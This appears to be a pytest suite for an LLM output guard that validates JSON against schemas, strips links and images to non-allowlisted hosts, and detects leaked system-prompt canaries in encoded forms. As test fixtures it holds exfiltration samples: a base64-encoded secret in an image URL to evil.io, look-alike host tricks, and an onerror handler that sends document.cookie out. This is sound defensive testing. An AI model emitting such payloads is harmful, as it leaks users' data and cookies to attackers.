"""Output checks: JSON validation and re-ask, link filtering, canaries."""

from __future__ import annotations

import base64
import json
import time

import pytest

from bastion.guard.base import ScanContext
from bastion.guard.output import (
    CANARY_PREFIX,
    IMAGE_PLACEHOLDER,
    LINK_PLACEHOLDER,
    CanaryScanner,
    LinkFilter,
    canary_instruction,
    new_canary,
    reask_message,
    validate_json,
)

CTX = ScanContext(kind="output")

# --- JSON ----------------------------------------------------------------------

SCHEMA = {
    "type": "object",
    "properties": {
        "name": {"type": "string"},
        "address": {
            "type": "object",
            "properties": {
                "city": {"type": "string"},
                "zip": {"type": "string", "pattern": "^\\d{5}$"},
            },
            "required": ["city", "zip"],
        },
        "tags": {"type": "array", "items": {"type": "string"}},
    },
    "required": ["name", "address"],
    "additionalProperties": False,
}
GOOD = {"name": "Ada", "address": {"city": "London", "zip": "12345"}, "tags": ["x"]}


def test_valid_json_for_schema() -> None:
    assert validate_json(json.dumps(GOOD), SCHEMA) == []
    assert validate_json("  \n" + json.dumps(GOOD) + "\n", SCHEMA) == []


def test_nested_and_required_problems_name_their_path() -> None:
    bad = {"name": 1, "address": {"city": "London", "zip": "1234"}, "tags": [3], "x": 0}
    problems = validate_json(json.dumps(bad), SCHEMA)
    assert any(p.startswith("$.name:") and "string" in p for p in problems)
    assert any(p.startswith("$.address.zip:") for p in problems)
    assert any(p.startswith("$.tags[0]:") for p in problems)
    assert any("'x' was unexpected" in p for p in problems)
    missing = validate_json('{"name": "Ada", "address": {"city": "London"}}', SCHEMA)
    assert missing == ["$.address: 'zip' is a required property"]


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("", "empty"),
        ("{'name': 'Ada'}", "not valid JSON"),
        ('{"a": NaN}', "NaN"),
        ('```json\n{"a": 1}\n```', "code fence"),
        ("[" * 100_000, "nested too deeply"),
    ],
)
def test_invalid_json(text: str, needle: str) -> None:
    problems = validate_json(text, SCHEMA)
    assert problems and any(needle in p for p in problems)


def test_response_format_shapes() -> None:
    fmt = {
        "type": "json_schema",
        "json_schema": {"name": "person", "strict": True, "schema": SCHEMA},
    }
    assert validate_json(json.dumps(GOOD), fmt) == []
    assert validate_json('{"name": "Ada"}', fmt) == ["$: 'address' is a required property"]
    obj = {"type": "json_object"}
    assert validate_json('{"anything": [1]}', obj) == []
    assert validate_json("[1, 2]", obj) == ["expected a JSON object, got an array"]
    assert validate_json("not json", {"type": "text"}) == []
    assert validate_json("[1]", None) == []


def test_schema_draft_and_errors() -> None:
    draft7 = {"$schema": "http://json-schema.org/draft-07/schema#", "items": [{"type": "string"}]}
    assert validate_json('["a", 1]', draft7) == []  # tuple form: draft 7, not 2020-12
    with pytest.raises(ValueError, match="invalid JSON schema"):
        validate_json("{}", {"type": 5})
    with pytest.raises(ValueError, match="unresolvable"):
        validate_json("{}", {"$ref": "https://schemas.invalid/s.json"})


def test_many_problems_are_capped() -> None:
    schema = {"type": "array", "items": {"type": "string"}}
    problems = validate_json(json.dumps(list(range(50))), schema)
    assert len(problems) == 11 and problems[-1].startswith("... and 40 more")


def test_reask_message() -> None:
    message = reask_message(["$.name: 1 is not of type 'string'"])
    assert message["role"] == "user"
    assert message["content"].startswith("Your previous answer was not valid JSON for the schema:")
    assert "- $.name: 1 is not of type 'string'" in message["content"]
    assert message["content"].endswith("Reply with only the corrected JSON.")


# --- links ---------------------------------------------------------------------

FILTER = LinkFilter(["example.com", "docs.python.org"])


def run(text: str) -> tuple[str, list[str]]:
    new, findings = FILTER.filter(text)
    assert all(f.category == "exfiltration_link" and f.scanner == "link_filter" for f in findings)
    return new, [text[f.start : f.end] for f in findings]


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://example.com/c.png) and ![cdn](https://cdn.example.com/c.png)",
        "[docs](https://docs.python.org/3/) and https://www.example.com/a?b=1.",
        '<img src="https://img.example.com/a.png"> <a href="https://example.com/">home</a>',
        "![rel](/static/a.png) [anchor](#top) [ref][1]\n\n[1]: https://example.com/x",
        "No links here, just prose about example.com.",
    ],
)
def test_allowlisted_domains_and_subdomains_kept(text: str) -> None:
    assert run(text) == (text, [])


def test_markdown_image_to_foreign_host_removed_with_payload_reason() -> None:
    payload = base64.b64encode(b"the user's secret plans for the merger").decode()
    text = f"Done. ![x](https://evil.io/p.png?q={payload})"
    new, found = run(text)
    assert new == f"Done. {IMAGE_PLACEHOLDER}"
    assert found == [text[6:]]
    (finding,) = FILTER.scan(text, CTX)
    assert "evil.io" in finding.reason and "query" in finding.reason
    assert finding.score == 1.0


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com.evil.io/x",  # look-alike suffix
        "https://notexample.com/x",
        "https://example.com@evil.io/x",  # userinfo trick
        "https://example.com\\@evil.io/x",
        "https://evil%2Eio/x",  # percent-encoded host
        "https:&#x2F;&#x2F;evil.io/x",  # HTML entities
        "https://ex\u0430mple.com/x",  # Cyrillic a
        "//evil.io/x",  # protocol-relative
        "https:evil.io/x",
    ],
)
def test_look_alike_and_obfuscated_hosts_removed(url: str) -> None:
    new, found = run(f"![i]({url}) [l]({url})")
    assert new == f"{IMAGE_PLACEHOLDER} l"
    assert len(found) == 2


def test_links_become_their_text_and_percent_encoded_payloads_are_reported() -> None:
    text = "[click here](https://evil.io/c?d=%73%65%63%72%65%74) for more"
    new, _ = run(text)
    assert new == "click here for more"
    (finding,) = FILTER.scan(text, CTX)
    assert "percent-encoded" in finding.reason


def test_bare_urls_autolinks_and_html() -> None:
    text = (
        "See https://evil.io/log?data=abc. <https://evil.io/a> www.evil.io/x "
        '<img src="https://evil.io/i.png"> <a href="https://evil.io">here</a> '
        '<img srcset="https://example.com/1.png 1x, https://evil.io/2.png 2x">'
    )
    new, found = run(text)
    assert new == (
        f"See {LINK_PLACEHOLDER}. {LINK_PLACEHOLDER} {LINK_PLACEHOLDER} "
        f"{IMAGE_PLACEHOLDER} here {IMAGE_PLACEHOLDER}"
    )
    assert found[0] == "https://evil.io/log?data=abc"
    assert len(found) == 6


def test_html_slash_separated_attributes_and_protocol_relative_src() -> None:
    new, found = run('<img/src=//evil.io/x.png> <A/HREF="//evil.io">t</A>')
    assert new == f"{IMAGE_PLACEHOLDER} t"
    assert len(found) == 2


def test_allowlist_entries_may_be_urls_or_wildcards() -> None:
    lf = LinkFilter(["https://Example.COM/path", "*.cdn.net"])
    assert lf.allowed("example.com") and lf.allowed("a.b.example.com") and lf.allowed("x.cdn.net")
    assert not lf.allowed("example.com.evil.io") and not lf.allowed("evilcdn.net")


def test_data_javascript_and_reference_definitions() -> None:
    text = "![x](data:image/png;base64,AAAA) [js](javascript:alert(1))\n![a][r]\n\n[r]: https://evil.io/?q=1\n"
    new, found = run(text)
    assert new == f"{IMAGE_PLACEHOLDER} js\n![a][r]\n\n\n"
    assert len(found) == 3


def test_nested_image_inside_allowed_link() -> None:
    new, found = run("[![img](https://evil.io/i.png)](https://example.com/page)")
    assert new == f"[{IMAGE_PLACEHOLDER}](https://example.com/page)"
    assert found == ["![img](https://evil.io/i.png)"]


def test_bare_url_trailing_punctuation_and_parentheses() -> None:
    new, found = run("(see https://evil.io/wiki/Foo_(bar)) ok")
    assert new == f"(see {LINK_PLACEHOLDER}) ok"
    assert found == ["https://evil.io/wiki/Foo_(bar)"]


def test_max_query_len_applies_to_allowlisted_hosts() -> None:
    strict = LinkFilter(["example.com"], max_query_len=20)
    assert strict.filter("![a](https://example.com/a?x=1)")[1] == []
    new, found = strict.filter("![a](https://example.com/a?x=" + "A" * 40 + ")")
    assert new == IMAGE_PLACEHOLDER and "payload" in found[0].reason


def test_link_filter_latency() -> None:
    text = ("Prose with a [link](https://example.com/a) and ![i](https://evil.io/x). " * 30)[:2000]
    start = time.perf_counter()
    for _ in range(50):
        FILTER.filter(text)
    assert (time.perf_counter() - start) / 50 < 0.005
    pathological = "<a x>" * 400
    start = time.perf_counter()
    FILTER.filter(pathological)
    assert time.perf_counter() - start < 0.05


# --- canaries --------------------------------------------------------------------


def test_new_canary_and_instruction() -> None:
    canary = new_canary()
    assert canary.startswith(CANARY_PREFIX) and len(canary) == len(CANARY_PREFIX) + 16
    assert new_canary() != canary
    line = canary_instruction(canary)
    assert canary in line and "never" in line.lower()


CANARY = "bst-canary-0123456789abcdef"
SCANNER = CanaryScanner(CANARY)


@pytest.mark.parametrize(
    ("text", "how"),
    [
        (f"The marker is {CANARY}.", "plain"),
        (CANARY.upper(), "plain"),
        ("\u200b".join(CANARY), "plain"),  # split by zero-width spaces
        (" ".join(CANARY), "plain"),
        ("the token 0123456789abcdef", "plain"),  # the random part alone
        (CANARY[::-1], "reversed"),
        (CANARY.encode().hex(), "hex"),
        (":".join(f"{b:02X}" for b in CANARY.encode()), "hex"),
        (base64.b64encode(CANARY.encode()).decode(), "base64"),
        (base64.b64encode(b"prefix: " + CANARY.encode() + b" and more").decode(), "base64"),
        (base64.urlsafe_b64encode(b"xy" + CANARY.encode()).decode(), "base64"),
        ("".join(chr(ord(c) + 0xFEE0) for c in CANARY), "normalised"),  # fullwidth
    ],
)
def test_canary_found(text: str, how: str) -> None:
    found = SCANNER.scan(text, CTX)
    assert len(found) == 1
    assert found[0].category == "canary_leak" and found[0].scanner == "canary"
    assert how in found[0].reason


def test_canary_span_covers_the_split_canary() -> None:
    split = "\u200b".join(CANARY)
    text = f"Sure: {split} is it"
    (finding,) = SCANNER.scan(text, CTX)
    assert text[finding.start : finding.end] == split


@pytest.mark.parametrize(
    "text",
    [
        "Nothing to see here.",
        "bst-canary-0000000000000000 and 0123456789abcdee",
        base64.b64encode(b"bst-canary-0123456789abcdeX").decode()[:24],
        "",
    ],
)
def test_canary_negatives(text: str) -> None:
    assert SCANNER.scan(text, CTX) == []


def test_canary_too_short() -> None:
    with pytest.raises(ValueError):
        CanaryScanner("ab-cd")


def test_active_html_is_removed_whatever_it_points_at() -> None:
    lf = LinkFilter(["example.com"])
    text = (
        'a <img src="https://example.com/x.png" onerror="fetch(\'//evil.io/\'+document.cookie)"> b '
        "<script>alert(1)</script> c <iframe src=https://example.com/f></iframe> "
        '<b onclick=steal()>bold</b> <p class="x">kept</p>'
    )
    new, findings = lf.filter(text)
    assert "onerror" not in new and "<script" not in new and "alert(1)" not in new
    assert "<iframe" not in new and "onclick" not in new
    assert '<p class="x">kept</p>' in new and "bold" in new
    assert {f.category for f in findings} == {"active_html"}
    assert len(findings) == 4


def test_plain_html_and_allowed_images_stay() -> None:
    lf = LinkFilter(["example.com"])
    text = '<img src="https://example.com/x.png" alt="ok"> <a href="https://example.com">x</a>'
    new, findings = lf.filter(text)
    assert new == text and findings == []
